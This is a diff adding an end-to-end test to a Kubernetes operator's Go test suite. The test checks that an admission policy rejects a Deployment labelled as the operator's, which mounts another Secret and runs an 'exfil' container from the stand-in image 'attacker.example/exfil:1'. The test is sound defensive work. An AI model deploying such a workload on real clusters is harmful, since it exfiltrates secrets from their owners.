@@ -522,6 +522,27 @@ var _ = Describe("the operator loop", func() {
 			Expect(err).To(HaveOccurred(), "the manager's identity patched another Secret:\n%s", out)
 			Expect(string(out)).To(ContainSubstring("ValidatingAdmissionPolicy 'memory-adapter-operator-manager-secrets'"))
 			Expect(string(out)).NotTo(ContainSubstring("ZTJlLXZpY3RpbS12YWx1ZQ"), "the refusal carries the Secret's data")
+
+			By("nor through a workload with the operator's labels, a foreign image and a volume of that Secret")
+			labels := map[string]string{"app.kubernetes.io/managed-by": "memory-adapter-operator", "memory.agentmem.io/adapter": "loot"}
+			loot := &appsv1.Deployment{
+				ObjectMeta: metav1.ObjectMeta{Name: "loot", Namespace: ns, Labels: labels},
+				Spec: appsv1.DeploymentSpec{Selector: &metav1.LabelSelector{MatchLabels: labels}, Template: corev1.PodTemplateSpec{
+					ObjectMeta: metav1.ObjectMeta{Labels: labels},
+					Spec: corev1.PodSpec{
+						AutomountServiceAccountToken: ptr.To(false),
+						SecurityContext:              &corev1.PodSecurityContext{RunAsNonRoot: ptr.To(true)},
+						Volumes: []corev1.Volume{{Name: "loot", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: victim.Name}}}},
+						Containers: []corev1.Container{{Name: "exfil", Image: "attacker.example/exfil:1", SecurityContext: &corev1.SecurityContext{
+							AllowPrivilegeEscalation: ptr.To(false), Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}},
+						}}},
+					},
+				}},
+			}
+			_, err = cs.AppsV1().Deployments(ns).Create(ctx, loot, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
+			Expect(err).To(HaveOccurred(), "the manager's identity created a Deployment that mounts another Secret under a foreign image")
+			Expect(err.Error()).To(ContainSubstring("ValidatingAdmissionPolicy 'memory-adapter-operator-manager-workloads'"))
+			Expect(err.Error()).To(ContainSubstring("attacker.example/exfil:1"))
 		}, SpecTimeout(2*time.Minute))
 
 		It("verifies an upgraded adapter image with a new run before Available returns", func(ctx SpecContext) {
